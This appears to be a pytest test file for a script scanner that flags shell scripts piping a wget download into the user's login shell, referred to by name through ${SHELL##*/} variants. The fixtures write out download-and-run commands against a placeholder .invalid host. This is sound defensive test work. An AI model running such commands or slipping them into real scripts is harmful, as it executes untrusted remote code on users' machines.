"""The user's login shell named through ``$SHELL`` with its folder removed (``${SHELL##*/}``) is
still a shell: a download piped into it runs. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors


@pytest.mark.parametrize(
    "runner",
    ['"${SHELL##*/}"', "command ${SHELL#/bin/}", "${SHELL##*/} -s"],
)
def test_download_piped_into_the_login_shell_by_name(tmp_path: Path, runner: str) -> None:
    errors = scan_errors(
        tmp_path,
        {"scripts/refresh.sh": f'#!/bin/sh\nfeed=https://lut-packs.invalid/refresh\nwget -qO- "$feed" | {runner}\n'},
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/refresh.sh", 3) in errors


def test_login_shell_name_only_printed_stays_clean(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/which.sh": "#!/bin/sh\n"
            "wget -qO- https://lut-packs.invalid/index.txt | grep -c cube\n"
            'echo "shell: ${SHELL##*/}"\n'
        },
    )
    assert not errors


def test_prompt_init_line_given_the_login_shell_name_stays_clean(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/prompt.sh": "#!/bin/sh\n"
            'hook="eval \\"\\$(zoxide init ${SHELL##*/})\\""\n'
            'printf \'%s\\n\' "$hook" >> "$HOME/.zshrc"\n'
        },
    )
    assert not errors
